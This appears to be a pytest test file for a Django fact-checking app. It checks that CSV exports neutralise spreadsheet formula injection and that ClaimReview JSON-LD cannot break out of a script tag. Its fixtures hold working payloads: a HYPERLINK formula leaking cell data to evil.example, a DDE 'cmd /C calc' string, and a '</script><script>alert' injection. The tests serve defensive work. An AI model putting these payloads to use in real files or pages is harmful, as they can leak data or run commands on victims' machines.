"""Hostile article text cannot become a spreadsheet formula in a CSV, nor end a <script> in ClaimReview."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from claims.exports.spreadsheet import safe_cell
from claims.models import Article, CheckResult, CheckRun, ClaimStatus, Review
from factcheck.quantity import QuantityKind
from tests.app.test_export_seed import make_claim

pytestmark = pytest.mark.django_db

# Each line starts with what a spreadsheet would run; the claim's sentence is the whole line.
HOSTILE_LINES = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Sales rose 8 percent")',
    "+cmd|' /C calc'!A0 and profit hit 40 percent",
    "-2+3 of the shops closed, 12 percent fewer than a year ago",
    "@SUM(1+1) counts 77 percent of the staff",
    "\t=1+1 hides behind a tab with 5 percent",
]
FIGURES = ["8 percent", "40 percent", "12 percent", "77 percent", "5 percent"]
CLOSE_SCRIPT = "</script><script>alert('claimreview')</script>"


@pytest.fixture
def hostile() -> Article:
    body = "Report\n" + "\n".join(HOSTILE_LINES) + f"\nIt says {CLOSE_SCRIPT} and 3 percent <!-- more & more.\n"
    article = Article.objects.create(
        title='=HYPERLINK("http://evil.example")', publisher="@evil", url="https://news.example/a", body=body,
        content_hash="f" * 64,
    )  # fmt: skip
    claims = [make_claim(article, figure, 1, "percent", QuantityKind.PERCENT) for figure in [*FIGURES, "3 percent"]]
    for claim in claims:
        claim.subject = "-1+1"
        claim.save()
    now = timezone.now()
    run = CheckRun.objects.create(article=article, engine_version="0.1.0", started_at=now, finished_at=now)
    result = CheckResult.objects.create(
        run=run, check_name="percent_change", status="fail", severity="error", message="=1+2 is not -3",
        spans=[[claims[0].start, claims[0].end]], computed={"note": "@x"},
    )  # fmt: skip
    result.claims.set(claims)
    reviewer = User.objects.create_user(username="+reviewer", password="x")
    for claim in claims:
        Review.objects.create(claim=claim, reviewer=reviewer, verdict="accurate", rationale=f"=cmd {CLOSE_SCRIPT}")
        claim.status, claim.verdict = ClaimStatus.REVIEWED, "accurate"
        claim.save()
    return article


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def sentences(article: Article) -> set[str]:
    """The claims' sentences as a safe CSV shows them: each starts with a formula character."""
    texts = set(article.claims.exclude(text__startswith="It says").values_list("text", flat=True))
    assert len(texts) == len(HOSTILE_LINES)
    return {"'" + text for text in texts}


def assert_no_formula(rows: list[list[str]]) -> None:
    assert len(rows) > 1
    for row in rows:
        for cell in row:
            # A cell may start with a risky character only when it is a plain number like -0.5.
            assert safe_cell(cell) == cell, f"formula cell: {cell!r}"


def export(*args: str) -> str:
    out = io.StringIO()
    call_command("export_audit", *args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


@pytest.mark.parametrize("args", [("--format", "csv"), ("--findings",)])
def test_audit_and_findings_csv_neutralise_formulas(hostile: Article, args):
    rows = cells(export(*args))
    assert_no_formula(rows)
    flat = [cell for row in rows for cell in row]
    # The text is all still there, marked as text by one leading apostrophe.
    assert "'" + hostile.title in flat
    if args == ("--format", "csv"):
        assert sentences(hostile) <= set(flat)
        assert "'=cmd " + CLOSE_SCRIPT in flat and "'+reviewer" in flat
    else:
        assert "'=1+2 is not -3" in flat


def test_the_admin_csv_action_neutralises_formulas(hostile: Article):
    client = Client()
    client.force_login(User.objects.create_superuser("boss", password="x"))
    picked = list(hostile.claims.values_list("pk", flat=True))
    response = client.post(
        reverse("admin:claims_claim_changelist"), {"action": "export_csv", "_selected_action": picked}
    )
    assert response.status_code == 200
    rows = cells(response.content.decode())
    assert_no_formula(rows)
    assert sentences(hostile) <= {cell for row in rows for cell in row}


@pytest.mark.parametrize(
    ("value", "shown"),
    [("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
     ("-0.5", "-0.5"), ("+3", "+3"), ("-1.2e5", "-1.2e5"), ("5-3", "5-3"), ("", ""), (-2.5, -2.5), (None, None)],
)  # fmt: skip
def test_safe_cell_marks_formulas_and_leaves_numbers(value, shown):
    assert safe_cell(value) == shown


def test_claimreview_cannot_close_the_script_element_it_is_pasted_into(hostile: Article):
    text = export("--format", "claimreview", "--base-url", "https://news.example/checks")
    assert "<" not in text and ">" not in text and "&" not in text
    reviews = json.loads(text)
    assert len(reviews) == hostile.claims.count()
    assert any(CLOSE_SCRIPT in review["claimReviewed"] for review in reviews)
    assert all(review["reviewBody"] == f"=cmd {CLOSE_SCRIPT}" for review in reviews)
    page = f'<script type="application/ld+json">{text}</script>'
    assert page.lower().count("</script") == 1
